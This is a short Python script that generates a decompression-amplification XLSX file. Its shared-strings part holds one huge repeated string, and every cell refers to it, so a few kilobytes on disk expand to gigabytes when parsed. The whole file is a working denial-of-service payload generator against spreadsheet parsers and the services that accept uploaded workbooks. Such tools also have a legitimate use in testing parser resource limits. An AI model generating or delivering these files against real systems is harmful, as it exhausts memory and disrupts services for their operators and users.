#!/usr/bin/python3
"""Write a small XLSX whose cells all refer to one large shared string (an amplification attack).

Usage: make_sst_bomb.py OUT.xlsx STRING_BYTES COLUMNS ROWS

The shared-strings part holds one string of STRING_BYTES repeated letters (deflate packs it to almost nothing);
the sheet has ROWS rows of COLUMNS cells, each `<c t="s"><v>0</v></c>`. Expanded, the cells are
STRING_BYTES * COLUMNS * ROWS bytes: 1 MiB * 256 * 100 is 25 GiB from a file of a few kilobytes.
"""
import sys
import zipfile

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def column_name(index):
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def main(argv):
    if len(argv) != 5:
        sys.stderr.write(__doc__)
        return 2
    out, string_bytes, columns, rows = argv[1], int(argv[2]), int(argv[3]), int(argv[4])
    ns = f' xmlns="{MAIN}" xmlns:r="{REL}"'
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml",
                   '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                   '<Default Extension="xml" ContentType="application/xml"/></Types>')
        z.writestr("_rels/.rels", f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" '
                   f'Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml",
                   f'<workbook{ns}><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels",
                   f'<Relationships xmlns="{PKG}"><Relationship Id="rId1" Type="{REL}/worksheet" '
                   f'Target="worksheets/sheet1.xml"/><Relationship Id="rIdS" Type="{REL}/sharedStrings" '
                   f'Target="sharedStrings.xml"/></Relationships>')
        z.writestr("xl/sharedStrings.xml", f'<sst{ns}><si><t>{"x" * string_bytes}</t></si></sst>')
        sheet = [f"<worksheet{ns}><sheetData>"]
        for r in range(1, rows + 1):
            cells = "".join(f'<c r="{column_name(c)}{r}" t="s"><v>0</v></c>' for c in range(columns))
            sheet.append(f'<row r="{r}">{cells}</row>')
        sheet.append("</sheetData></worksheet>")
        z.writestr("xl/worksheets/sheet1.xml", "".join(sheet))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
